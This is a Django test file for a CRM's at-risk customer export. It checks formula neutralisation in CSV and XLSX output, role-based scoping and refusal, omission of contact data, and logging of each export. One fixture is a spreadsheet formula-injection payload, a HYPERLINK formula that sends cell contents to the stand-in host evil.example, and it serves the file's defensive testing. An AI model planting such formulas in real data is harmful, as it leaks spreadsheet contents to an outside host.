"""The at-risk download in both formats: a formula in a customer's name arrives as
text, numbers as numbers."""

from __future__ import annotations

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from kehu.customers.models import Customer
from kehu.value.models import CustomerValue
from tests.value.test_pages import client_for, scored  # noqa: F401  (the fixture)

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'


def _rename_first_at_risk(run):
    value = (
        CustomerValue.objects.filter(run=run, at_risk=True)
        .order_by("-money_at_stake", "id")
        .first()
    )
    Customer.objects.filter(pk=value.customer_id).update(name=EVIL)
    return value


def test_csv_neutralises_a_formula_name(org, scored):  # noqa: F811
    _people, _others, run = scored
    value = _rename_first_at_risk(run)
    response = client_for(org.admin).get(reverse("value:at_risk_export"))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="at-risk-{run.as_of}.csv"'
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    line = next(r for r in rows[1:] if r[0] == str(value.customer_id))
    assert line[1] == "'" + EVIL
    assert line[4] == f"{value.risk:.2f}" and line[6] == str(value.money_at_stake)
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row[1:])


def test_xlsx_neutralises_a_formula_name(org, scored):  # noqa: F811
    _people, _others, run = scored
    value = _rename_first_at_risk(run)
    response = client_for(org.admin).get(reverse("value:at_risk_export_xlsx"))
    assert response.status_code == 200
    assert f'filename="at-risk-{run.as_of}.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows())
    assert rows[0][0].value == "客户编号"
    line = next(r for r in rows[1:] if r[0].value == value.customer_id)
    assert line[1].value == "'" + EVIL and line[1].data_type == "s"
    assert line[4].data_type == "n" and line[4].value == round(value.risk, 2)
    assert line[6].data_type == "n" and line[6].value == float(value.money_at_stake)
    assert all(cell.data_type != "f" for row in rows for cell in row)


def test_xlsx_is_scoped_and_refused_like_the_csv(org, scored):  # noqa: F811
    url = reverse("value:at_risk_export_xlsx")
    assert client_for(org.service).get(url).status_code == 403
    response = client_for(org.west_sales).get(url)
    rows = list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.rows)
    mine = CustomerValue.objects.filter(at_risk=True, customer__owner=org.west_sales).count()
    pool = CustomerValue.objects.filter(at_risk=True, customer__owner__isnull=True).count()
    assert len(rows) - 1 == mine + pool
    page = client_for(org.admin).get(reverse("value:at_risk")).content.decode()
    assert 'id="at-risk-export-xlsx"' in page


def test_a_pool_customers_contact_data_is_in_no_export(org, scored):  # noqa: F811
    """A salesperson's download lists pool customers at risk, never their phones or
    e-mails (none of the export's columns is contact data)."""
    from kehu.customers.models import CustomerPhone

    _people, _others, run = scored
    value = CustomerValue.objects.filter(run=run, at_risk=True).order_by("id").first()
    Customer.objects.filter(pk=value.customer_id).update(
        owner=None, team=None, email="pool.secret@example.com", wechat_id="wx_pool_secret"
    )
    CustomerPhone.objects.create(customer_id=value.customer_id, number="+8613866667777")
    for name in ("value:at_risk_export", "value:at_risk_export_xlsx"):
        response = client_for(org.west_sales).get(reverse(name))
        body = b"".join(response.streaming_content)
        if name.endswith("xlsx"):
            sheet = load_workbook(io.BytesIO(body)).active
            body = repr(list(sheet.iter_rows(values_only=True))).encode()
        assert str(value.customer_id).encode() in body  # the pool customer is listed
        for secret in (b"pool.secret", b"wx_pool_secret", b"13866667777"):
            assert secret not in body


def test_the_download_obeys_the_export_switch_and_is_recorded(org, scored):  # noqa: F811
    """The at-risk list serves its own files; they pass the exports app's gate: a role
    whose exporting is switched off is refused, every download is recorded."""
    from kehu.accounts.models import Role
    from kehu.exports.models import ExportRecord, ExportRoleSetting

    client = client_for(org.west_sales)
    response = client.get(reverse("value:at_risk_export"))
    rows = b"".join(response.streaming_content).decode("utf-8").count("\n") - 1
    record = ExportRecord.objects.get(user=org.west_sales, list_key="at-risk")
    assert record.file_format == "csv" and record.rows == rows and record.status == "done"
    client.get(reverse("value:at_risk_export_xlsx"))
    assert ExportRecord.objects.filter(user=org.west_sales, file_format="xlsx").count() == 1
    ExportRoleSetting.objects.update_or_create(role=Role.SALES, defaults={"enabled": False})
    for name in ("value:at_risk_export", "value:at_risk_export_xlsx"):
        assert client_for(org.west_sales).get(reverse(name)).status_code == 403
    assert client_for(org.admin).get(reverse("value:at_risk_export")).status_code == 200


def test_the_page_offers_no_download_to_a_role_that_may_not_export(org, scored):  # noqa: F811
    from kehu.accounts.models import Role
    from kehu.exports.models import ExportRoleSetting

    assert (
        'id="at-risk-export"'
        in client_for(org.west_sales).get(reverse("value:at_risk")).content.decode()
    )
    ExportRoleSetting.objects.update_or_create(role=Role.SALES, defaults={"enabled": False})
    page = client_for(org.west_sales).get(reverse("value:at_risk")).content.decode()
    assert 'id="at-risk-export"' not in page and 'id="at-risk-export-xlsx"' not in page
